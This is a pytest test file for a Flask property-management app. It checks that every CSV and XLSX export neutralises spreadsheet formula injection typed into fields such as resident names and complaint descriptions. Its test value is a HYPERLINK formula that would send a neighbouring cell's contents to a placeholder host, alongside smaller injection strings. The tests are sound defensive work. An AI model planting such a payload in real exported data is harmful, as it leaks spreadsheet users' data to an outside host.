"""SEC-1: no text a user typed reaches a spreadsheet as a formula (CSV/formula injection).

Each writer is driven end to end: the malicious text goes in through the normal path, the file is
downloaded as the manager/supervisor/finance would, parsed, and every cell is checked."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook

from models import db
from security.cells import FORMULA_START, neutralise, workbook_bytes
from tests.conftest import PASSWORD, csrf_token
from tests.helpers import make_help_request, make_resident, make_unit, make_violation

PAYLOAD = '=HYPERLINK("http://x/?"&A2,"x")'
NEUTRALISED = "'" + PAYLOAD


def download(client: FlaskClient, url: str) -> Any:
    """GET an export, re-entering the password first when ACC-5 asks for it."""
    response = client.get(url)
    if response.status_code == 302 and "/reauth" in response.headers["Location"]:
        client.post(response.headers["Location"], data={"csrf_token": csrf_token(client), "password": PASSWORD})
        response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response


def csv_cells(client: FlaskClient, url: str) -> list[str]:
    body = download(client, url).get_data(as_text=True)
    return [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]


def xlsx_cells(data: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_csv_safe(cells: list[str]) -> None:
    assert NEUTRALISED in cells, "the malicious text is exported, neutralised"
    assert PAYLOAD not in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]


def assert_xlsx_safe(data: bytes) -> None:
    cells = list(xlsx_cells(data))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert NEUTRALISED in texts and not [t for t in texts if t.startswith(FORMULA_START)]


# --- the helper ------------------------------------------------------------------------------------
def test_sec_1_helper_escapes_text_only() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", PAYLOAD):
        assert neutralise(text) == "'" + text
    for value in ("张三", "A-12-1203", "", 5, -5, Decimal("-5.00"), 1.5, None, True):
        assert neutralise(value) == value  # numbers stay numbers: -5 is not a formula


def test_sec_1_workbook_never_saves_a_formula_cell() -> None:
    book = Workbook()
    book.active["A1"] = "=1+1"  # a direct write, not through write_row
    book.active["B1"] = -5
    cells = {c.coordinate: c for c in xlsx_cells(workbook_bytes(book))}
    assert (cells["A1"].data_type, cells["A1"].value) == ("s", "'=1+1")
    assert (cells["B1"].data_type, cells["B1"].value) == ("n", -5)


def test_sec_1_every_model_export_goes_through_the_one_guard(app) -> None:
    """No screen writes its own export rows: Flask-Admin's CSV and tablib writers call the base hook."""
    from tests.test_permissions import model_views
    from views.base import SecureModelView

    for view in model_views(app):
        for name in ("get_export_value", "_export_csv", "_export_tablib"):
            assert getattr(type(view), name) is getattr(SecureModelView, name), (view.endpoint, name)


# --- Flask-Admin CSV exports ------------------------------------------------------------------------
def test_sec_1_complaint_csv_export_neutralises_a_typed_formula(db_session, login_as) -> None:
    from tests.test_complaints import form

    unit = make_unit()
    db.session.commit()
    clerk = login_as("cs_clerk")
    response = clerk.post("/admin/complaint/new/", data={"csrf_token": csrf_token(clerk),
                                                         **form(unit.id, description=PAYLOAD, demand="@SUM(1)")})
    assert response.status_code == 302, response.get_data(as_text=True)
    cells = csv_cells(login_as("manager"), "/admin/complaint/export/csv/")
    assert_csv_safe(cells)
    assert "'@SUM(1)" in cells


def test_sec_1_visitor_log_csv_export_neutralises_a_typed_formula(db_session, login_as) -> None:
    unit = make_unit()
    db.session.commit()
    guard = login_as("security")
    response = guard.post("/admin/visitor_log/new/", data={
        "csrf_token": csrf_token(guard), "name": PAYLOAD, "id_shown": "110105198001010019",
        "host_unit": unit.id, "plate": "-1+1", "time_in": "2026-11-23 09:00:00", "time_out": ""})
    assert response.status_code == 302, response.get_data(as_text=True)
    cells = csv_cells(login_as("cs_supervisor"), "/admin/visitor_log/export/csv/")
    assert_csv_safe(cells)
    assert "'-1+1" in cells


@pytest.mark.parametrize("endpoint", ["help_request", "violation", "resident"])
def test_sec_1_register_csv_exports_neutralise_typed_formulas(db_session, login_as, endpoint: str) -> None:
    """Help requests (description), violations (description and the resident, a related record's
    text) and residents (name, native place)."""
    if endpoint == "help_request":
        make_help_request(description=PAYLOAD, caller="+86 张三")
    elif endpoint == "violation":
        make_violation(description="楼道堆放杂物", resident=make_resident(name=PAYLOAD))
    else:
        make_resident(name=PAYLOAD, native_place="@北京")
    db.session.commit()
    cells = csv_cells(login_as("manager" if endpoint != "resident" else "cs_supervisor"),
                      f"/admin/{endpoint}/export/csv/")
    assert_csv_safe(cells)


# --- the product's own XLSX writers -----------------------------------------------------------------
def test_sec_1_deductions_xlsx_has_no_live_formula(db_session, staff_ids, login_as) -> None:
    from tests.test_violations import fresh, person, registered, sign
    from workflow import engine

    v = registered(staff_ids, economic_loss=True, severity="major", resident=make_resident(name=PAYLOAD))
    manager = person(staff_ids, "manager")
    engine.fire(v, "rectify", manager, values={"rectify_by": "2026-12-31"})
    v = sign(fresh(v.id), staff_ids)
    engine.fire(v, "compensate", manager, values={"compensation_amount": "800"})
    charge = sign(fresh(v.id), staff_ids).charges[0]
    data = download(login_as("finance"), f"/admin/violation-deductions/export.xlsx?month={charge.month}").data
    assert_xlsx_safe(data)
    amounts = [c for c in xlsx_cells(data) if c.column == 5 and c.row == 2]
    assert amounts[0].data_type == "n" and Decimal(str(amounts[0].value)) == Decimal("800.00")


def test_sec_1_statistics_xlsx_has_no_live_formula(db_session, login_as) -> None:
    from models.staff import Department
    from tests.helpers import make_complaint
    from tests.test_statistics import SAT_2359, craft

    first = craft(db_session)
    own = Department(key="landscaping", name=PAYLOAD)  # a firm's own department, named by an admin
    db.session.add(own)
    db.session.flush()
    make_complaint(received_at=SAT_2359, department_id=own.id, unit=first.unit)
    db.session.commit()
    data = download(login_as("manager"), "/admin/statistics/export.xlsx?period=week&day=2026-11-21").data
    assert_xlsx_safe(data)


def test_sec_1_renovation_deposit_xlsx_has_no_live_formula(db_session, staff_ids, login_as) -> None:
    from tests.helpers import make_occupancy, make_renovation
    from tests.test_renovation import to_state

    unit = make_unit()
    applicant = make_resident(name=PAYLOAD)
    make_occupancy(unit, applicant)
    to_state(make_renovation(unit=unit, applicant=applicant), staff_ids, "permitted")
    data = download(login_as("finance"), "/admin/renovation-deposits/export.xlsx").data
    assert_xlsx_safe(data)


def test_sec_1_import_template_has_no_formula(login_as) -> None:
    data = download(login_as("cs_supervisor"), "/admin/import/template/residents.xlsx").data
    assert [c.coordinate for c in xlsx_cells(data) if c.data_type == "f"] == []


def test_sec_1_exports_write_nothing_else(db_session, login_as) -> None:
    """Escaping happens on the way out: the stored text stays exactly as typed."""
    from models.registry import Resident

    make_resident(name=PAYLOAD)
    db.session.commit()
    csv_cells(login_as("cs_supervisor"), "/admin/resident/export/csv/")
    db.session.rollback()
    assert db.session.scalar(sa.select(Resident.name)) == PAYLOAD
